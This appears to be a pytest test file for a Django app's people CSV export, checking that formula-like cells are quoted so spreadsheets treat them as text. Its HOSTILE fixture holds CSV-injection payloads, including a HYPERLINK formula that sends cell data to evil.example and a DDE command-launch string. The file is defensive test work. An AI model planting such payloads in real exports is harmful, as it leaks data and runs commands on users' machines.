"""The people CSV opens in a spreadsheet as text: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from infointerview.lib.spreadsheet_cells import FORMULA_STARTS, guarded, unguarded
from infointerview.people.services import add_person

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?x="&A1, "Click me")',
    "organization": "+SUM(1;2)",
    "job_title": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(A1:A9)",
    "source_detail": "-1+cmd",
    "postal_address": "=1+1",
}


def csv_rows(client) -> list[dict]:
    response = client.get(reverse("agenda:export_people_csv"))
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_formula_cells_are_written_as_text(alice_client, alice):
    add_person(alice, tags=["=1+1", "design"], **HOSTILE)
    row = csv_rows(alice_client)[0]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value
    assert row["tags"] == "'=1+1; design"


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_tab_or_carriage_return_before_a_formula_is_written_as_text(alice_client, alice, start):
    person = add_person(alice, "Ana Ruiz")
    person.notes = start + "=1+1"  # as a pasted note can begin; the form keeps inner text
    person.save()
    assert csv_rows(alice_client)[0]["notes"] == "'" + start + "=1+1"


@pytest.mark.parametrize("phone", ["+1 555 0100", "+44 (0)20 7946 0958", "-555-0100"])
def test_a_phone_number_stays_readable(alice_client, alice, phone):
    add_person(alice, "Ana Ruiz", phones=[phone], organization="Lakeside College")
    row = csv_rows(alice_client)[0]
    assert row["phones"] == phone
    assert row["name"] == "Ana Ruiz" and row["organization"] == "Lakeside College"


def test_the_export_reads_back_to_what_was_entered(alice_client, alice):
    quoted = {**HOSTILE, "notes": "'tis the season", "organization": "'=already quoted"}
    person = add_person(alice, phones=["+1 555 0100"], **quoted)
    row = {key: unguarded(value) for key, value in csv_rows(alice_client)[0].items()}
    for column, value in quoted.items():
        assert row[column] == value
    assert row["phones"] == "+1 555 0100"
    assert row["id"] == str(person.public_id)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "+1 555 0100"),
        ("+1e5", "'+1e5"),
        ("-", "'-"),
        ("'hello", "''hello"),
        ("plain", "plain"),
        ("", ""),
        ("a=1", "a=1"),
    ],
)
def test_the_rule_cell_by_cell(written, read):
    assert guarded(written) == read
    assert unguarded(read) == written


@settings(deadline=None)
@given(st.text())
def test_any_text_round_trips(text):
    assert unguarded(guarded(text)) == text


@settings(deadline=None)
@given(st.text())
def test_a_guarded_cell_starts_as_a_formula_only_when_it_is_a_bare_number(text):
    cell = guarded(text)
    if cell.startswith(FORMULA_STARTS) and not cell.startswith("'"):
        assert cell[0] in "+-"
        assert not any(character.isalpha() for character in cell)
        assert set(cell) <= set("+-0123456789 ()./")
